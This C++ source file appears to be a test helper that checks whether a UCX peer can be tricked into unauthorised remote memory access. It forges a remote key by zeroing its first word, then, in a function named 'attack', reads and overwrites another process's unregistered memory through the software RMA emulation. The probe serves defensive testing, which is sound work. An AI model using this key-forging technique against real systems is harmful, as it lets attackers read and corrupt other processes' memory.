// SPDX-License-Identifier: Apache-2.0
// Reads and writes another process's unregistered memory through UCX's software emulation of RDMA: with a key that
// names no hardware, UCX asks the peer's processor, which checks nothing.
//   ucx_stranger SOCKET   the other side sends the address of a UCX worker, empty for one of this process, and an address of
//                         memory there; the answer is "read" or "not read", and "written" or "not written"
#include <ucp/api/ucp.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <stdexcept>
#include <string>

#include "support/child.hpp"

namespace {

using namespace shardwire::test;

void check(ucs_status_t status, const char* what) {
  if (status != UCS_OK) throw std::runtime_error(std::string(what) + ": " + ucs_status_string(status));
}

struct Worker {
  ucp_context_h context = nullptr;
  ucp_worker_h worker = nullptr;

  Worker() {
    ucp_config_t* config = nullptr;
    check(ucp_config_read(nullptr, nullptr, &config), "ucp_config_read");
    ucp_params_t params{};
    params.field_mask = UCP_PARAM_FIELD_FEATURES;
    params.features = UCP_FEATURE_RMA | UCP_FEATURE_AM;
    check(ucp_init(&params, config, &context), "ucp_init");
    ucp_config_release(config);
    const ucp_worker_params_t worker_params{};
    check(ucp_worker_create(context, &worker_params, &worker), "ucp_worker_create");
  }
  Worker(const Worker&) = delete;
  Worker& operator=(const Worker&) = delete;
  ~Worker() {
    ucp_worker_destroy(worker);
    ucp_cleanup(context);
  }
};

// A key of the process's own memory names the hardware to use; a first word of zero names none.
ucp_rkey_h forged_key(const Worker& own, ucp_ep_h endpoint) {
  alignas(64) static std::array<std::byte, 4096> page{};
  ucp_mem_map_params_t params{};
  params.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
  params.address = page.data();
  params.length = page.size();
  ucp_mem_h memory = nullptr;
  check(ucp_mem_map(own.context, &params, &memory), "ucp_mem_map");
  void* packed = nullptr;
  std::size_t bytes = 0;
  check(ucp_rkey_pack(own.context, memory, &packed, &bytes), "ucp_rkey_pack");
  if (bytes < sizeof(std::uint64_t)) throw std::runtime_error("a key is too short");
  std::memset(packed, 0, sizeof(std::uint64_t));
  ucp_rkey_h key = nullptr;
  check(ucp_ep_rkey_unpack(endpoint, packed, &key), "ucp_ep_rkey_unpack");
  ucp_rkey_buffer_release(packed);
  ucp_mem_unmap(own.context, memory);
  return key;
}

// Whether the request succeeded. A peer that does not serve such requests never answers.
bool ends_well(ucs_status_ptr_t request, const Worker& own, const Worker* other) {
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(2);
  if (request == nullptr) return true;
  if (UCS_PTR_IS_ERR(request)) return false;
  while (ucp_request_check_status(request) == UCS_INPROGRESS && std::chrono::steady_clock::now() < end) {
    ucp_worker_progress(own.worker);
    if (other != nullptr) ucp_worker_progress(other->worker);
  }
  return ucp_request_check_status(request) == UCS_OK;
}

int attack(int socket) {
  std::vector<std::byte> address = read_frame(socket);
  const std::vector<std::byte> where = read_frame(socket);
  std::uint64_t target = 0;
  if (where.size() != sizeof target) return 2;
  std::memcpy(&target, where.data(), sizeof target);
  Worker own;
  std::unique_ptr<Worker> other;
  std::uint64_t memory = target;  // in this process if no address is given
  if (address.empty()) {
    other = std::make_unique<Worker>();
    ucp_address_t* raw = nullptr;
    std::size_t bytes = 0;
    check(ucp_worker_get_address(other->worker, &raw, &bytes), "ucp_worker_get_address");
    const auto* first = reinterpret_cast<const std::byte*>(raw);
    address.assign(first, first + bytes);
    ucp_worker_release_address(other->worker, raw);
    target = reinterpret_cast<std::uint64_t>(&memory);
  }
  ucp_ep_params_t params{};
  params.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE;
  params.address = reinterpret_cast<const ucp_address_t*>(address.data());
  params.err_mode = UCP_ERR_HANDLING_MODE_NONE;
  ucp_ep_h endpoint = nullptr;
  check(ucp_ep_create(own.worker, &params, &endpoint), "ucp_ep_create");
  const ucp_rkey_h key = forged_key(own, endpoint);
  const ucp_request_param_t plain{};
  std::uint64_t seen = 0;
  const bool read =
      ends_well(ucp_get_nbx(endpoint, &seen, sizeof seen, target, key, &plain), own, other.get()) && seen != 0;
  const std::uint64_t mark = ~seen;
  ucs_status_ptr_t put = ucp_put_nbx(endpoint, &mark, sizeof mark, target, key, &plain);
  const bool written =
      ends_well(put, own, other.get()) && ends_well(ucp_ep_flush_nbx(endpoint, &plain), own, other.get());
  const std::string verdict = std::string(read ? "read" : "not read") + ", " + (written ? "written" : "not written");
  write_frame(socket, std::as_bytes(std::span(verdict)));
  std::_Exit(0);  // unanswered requests cannot be closed
}

}  // namespace

int main(int argc, char** argv) {
  try {
    ::alarm(120);
    return argc == 2 ? attack(std::atoi(argv[1])) : 2;
  } catch (const std::exception& error) {
    std::fprintf(stderr, "stranger: %s\n", error.what());
    return 1;
  }
}
